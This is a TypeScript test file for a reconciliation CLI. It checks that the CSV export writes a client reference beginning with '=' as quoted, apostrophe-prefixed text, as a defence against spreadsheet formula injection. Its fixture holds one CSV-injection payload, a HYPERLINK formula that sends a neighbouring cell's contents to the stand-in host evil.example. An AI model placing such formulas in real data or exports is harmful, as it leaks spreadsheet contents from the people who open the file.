/**
 * Issue 23: CSV output is opened by auditors in spreadsheets, and `client_reference` comes from
 * whoever created the operation or the provider's metadata: a `=HYPERLINK(` cell must arrive as
 * text, not as a formula.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { recon } from '../support/cli.js';

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'recon-csv-'));
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

/** A minimal RFC 4180 reader: the cells as a spreadsheet receives them. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let quoted = false;
  const endCell = () => {
    rows[rows.length - 1].push(cell);
    cell = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (quoted) cell += c;
    else if (c === ',') endCell();
    else if (c === '\n') {
      endCell();
      rows.push([]);
    } else cell += c;
  }
  rows[rows.length - 1].push(cell);
  return rows;
}

describe('ops list --csv', () => {
  it('writes a client reference that starts with = as text, quoted, with its quotes intact', async () => {
    const env = { STRIPE_API_KEY: 'sk_test_csv', RECON_DB: `pglite:${path.join(dir, 'db')}` };
    const ref = '=HYPERLINK("https://evil.example/?leak="&A2,"open, please")';
    const op = {
      id: 'refund:csv_1',
      provider: 'stripe',
      action: 'refund',
      client_reference: ref,
      payload: { payment_intent: 'pi_csv', amount: 1999, currency: 'usd' },
    };
    expect((await recon(['ops', 'record', '-'], { cwd: dir, env, input: JSON.stringify(op) })).code).toBe(0);
    const r = await recon(['ops', 'list', '--csv'], { cwd: dir, env });
    expect(r.code, r.stderr).toBe(0);
    const [head, row] = parseCsv(r.stdout.trimEnd());
    expect(row[head.indexOf('client_reference')]).toBe(`'${ref}`);
    expect(row[head.indexOf('amount')]).toBe('1999');
    expect(r.stdout).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});
